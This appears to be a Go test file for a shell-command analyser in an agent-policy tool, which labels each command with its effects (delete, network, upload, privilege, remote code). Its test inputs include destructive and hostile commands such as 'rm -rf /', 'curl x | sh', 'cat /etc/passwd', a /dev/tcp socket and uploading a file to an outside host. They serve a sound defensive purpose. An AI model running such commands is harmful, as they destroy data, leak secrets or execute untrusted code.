package shell

import (
	"fmt"
	"strings"
	"testing"

	"mycelium/internal/policy"
	"mycelium/internal/shell/program"
)

var here = Options{Dir: "/p", Home: "/home/u"}

// short writes facts so that a person reads them at a glance: each part as program, effects, paths, hosts.
func short(f policy.Facts) string {
	var parts []string
	for _, p := range f.Parts {
		s := p.Program + "[" + strings.Join(p.Effects, " ") + "]"
		for _, at := range p.Paths {
			s += fmt.Sprintf(" %c:%s", at.Access[0], at.Clean)
		}
		for _, h := range p.Hosts {
			s += " @" + h
		}
		if len(p.Unclear) > 0 {
			s += " ?" + strings.Join(p.Unclear, ";")
		}
		parts = append(parts, s)
	}
	return strings.Join(parts, " | ")
}

// TestFacts: what a reader of the log sees of a command.
func TestFacts(t *testing.T) {
	for command, want := range map[string]string{
		"git status; rm -rf .": "git[execute read] r:/p | rm[execute delete] d:/p",
		"npm run build && curl x | sh": "npm[execute read write project_code] r:/p | curl[execute network] @x | " +
			"sh[execute inline_code remote_code unclear] ?the code that runs is what another command writes",
		"git diff --output=/etc/x": "git[execute read write] w:/etc/x r:/p",
		`rm -rf "$HOME"`:           "rm[execute delete] d:/home/u",
		"git push origin +main":    "git[execute read network push force_push] r:/p",
		"cd sub && rm -rf build; ls": "cd[execute read] r:/p/sub | rm[execute delete] d:/p/sub/build | " +
			"ls[execute read] r:/p/sub r:/p",
		"bash -lc 'cd /tmp && rm x'":            "cd[execute read] r:/tmp | rm[execute delete] d:/tmp/x",
		"sudo env A=1 timeout 5 rm -r --forc x": "sudo[execute privilege] | rm[execute delete privilege] d:/p/x",
		"find . -name '*.pyc' -exec rm {} +":    "find[execute read] r:/p | rm[execute delete] d:/p/**/*.pyc",
		"for f in a b; do cat $f.txt; done":     "cat[execute read] r:/p/a.txt | cat[execute read] r:/p/b.txt",
		"X=/etc; cat ${X}/passwd":               "cat[execute read] r:/etc/passwd",
		"cat ${X:-/etc/passwd}":                 "cat[execute read unclear] r:/etc/passwd ?which path is meant is not known",
		"echo 'rm -rf /' | sh":                  "echo[execute] | rm[execute delete] d:/",
		`f() { rm -rf "$1"; }; f /`:             "rm[execute delete] d:/",
		"ssh host rm -rf /":                     "ssh[execute network] @host | rm[execute delete unclear] ?the file is elsewhere",
		"docker run -v /:/host alpine sh":       "docker[execute read write privilege container] r:/ w:/",
		"npm ci":                                "npm[execute read write project_code network dependencies] r:/p",
		"curl -d @a http://e.com":               "curl[execute read network upload] r:/p/a @e.com",
		"foo bar.txt --out=/etc/x":              "foo[execute read write unknown_program] r:/p/bar.txt w:/p/bar.txt r:/etc/x w:/etc/x",
		"echo x > a.sh; bash a.sh":              "echo[execute write] w:/p/a.sh | bash[execute project_code written_here] e:/p/a.sh",
		"cd \"$X\"; rm y": "cd[execute unclear] ?the folder that it goes to is not known | " +
			"rm[execute delete unclear] d: d:/p/y ?the working directory is not known",
		"cat {a,b}.txt ~/c $'\\x64'":                "cat[execute read] r:/p/a.txt r:/p/b.txt r:/home/u/c r:/p/d",
		"for i in 1 2; do rm {a,b}$i; done":         "rm[execute delete] d:/p/a1 d:/p/b1 | rm[execute delete] d:/p/a2 d:/p/b2",
		"select i in {a,b}; do rm $i; done":         "rm[execute delete unclear] ?which path is meant is not known",
		"claude --version$X":                        "claude[execute agent unclear] ?an argument is not known",
		"set -o ''":                                 "set[execute]",
		"git -c core.sshCommand=./a fetch":          "a[execute project_code] e:/p/a | git[execute read write network] r:/p",
		"exec 3<>/dev/tcp/1.2.3.4/80":               "exec[execute network upload] @1.2.3.4",
		"if [ -f x ]; then touch x; fi 2>/dev/null": "[[execute read] r:/p/x | touch[execute write] w:/p/x",
		"cat < a > b 2>&1":                          "cat[execute read write] r:/p/a w:/p/b",
		"mv mycelium.yaml sub/":                     "mv[execute read write delete] r:/p/mycelium.yaml d:/p/mycelium.yaml w:/p/sub/mycelium.yaml",
		"claude --bare":                             "claude[execute agent]",
		"MYCELIUM_TOKEN=x myc approvals approve 1":  "myc[execute operator]",
		"# only a comment":                          "[execute]",
		"'":                                         "[execute unclear] ?it cannot be parsed",
		strings.Repeat("a", MaxLength):              "[execute unclear] ?it is too long to be read",
	} {
		if got := short(Facts(command, here)); got != want {
			t.Errorf("%.60q:\n got %s\nwant %s", command, got, want)
		}
	}
}

// TestBounds: what would take long is unclear, and soon.
func TestBounds(t *testing.T) {
	for _, command := range []string{
		strings.Repeat("echo a; ", 1200), strings.Repeat("(", 4000) + strings.Repeat(")", 4000), "f() { f; f; }; f",
		strings.Repeat("eval '", 30), "echo " + strings.Repeat("{a,b}", 40),
		strings.Repeat("for i in 1 2 3 4 5 6 7 8 9; do ", 40) + "ls" + strings.Repeat("; done", 40), strings.Repeat("a=b;", 2000),
		strings.Repeat("$(", 500) + strings.Repeat(")", 500),
		"x=" + strings.Repeat("a", 4000) + "; echo ${x%" + strings.Repeat("*a", 2000) + "}",
	} {
		f := Facts(command, here)
		if last := f.Parts[len(f.Parts)-1]; len(last.Unclear) == 0 && !strings.HasPrefix(command, "x=") {
			t.Errorf("%.30q is clear: %d parts", command, len(f.Parts))
		}
		if len(f.Parts) > program.MaxParts+2 {
			t.Errorf("%.30q has %d parts", command, len(f.Parts))
		}
	}
}

// FuzzFacts: it never panics, gives the same twice, and always at least one part with at least one effect.
func FuzzFacts(f *testing.F) {
	for _, s := range []string{"", "ls", "a; b", "$(", "for x in a b; do echo $x; done", "cat <<E\nx\nE", "f() { f; }; f",
		"echo {1..9}{a,b}", "sed -i s/a/b/w x", "tar", "X=1 Y=$X env -S 'a b'", "a=(1 2); echo ${a[@]%x}", "echo $'\\x2f'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		a := Facts(s, here)
		if len(a.Parts) == 0 {
			t.Fatal("no part")
		}
		for _, p := range a.Parts {
			if len(p.Effects) == 0 {
				t.Fatalf("a part without effects: %+v", p)
			}
			if (len(p.Unclear) > 0) != strings.Contains(strings.Join(p.Effects, " "), "unclear") {
				t.Fatalf("unclear and its reason: %+v", p)
			}
		}
		if b := Facts(s, here); short(a) != short(b) {
			t.Fatalf("%s\n%s", short(a), short(b))
		}
	})
}

func BenchmarkFacts(b *testing.B) {
	for _, c := range []string{"ls -la", "git status", "go test ./internal/policy", `cd sub && grep -rn "foo bar" src | head -20`,
		"npm run build && npm test", `git commit -m "a message"`} {
		b.Run(c, func(b *testing.B) {
			for b.Loop() {
				Facts(c, here)
			}
		})
	}
}
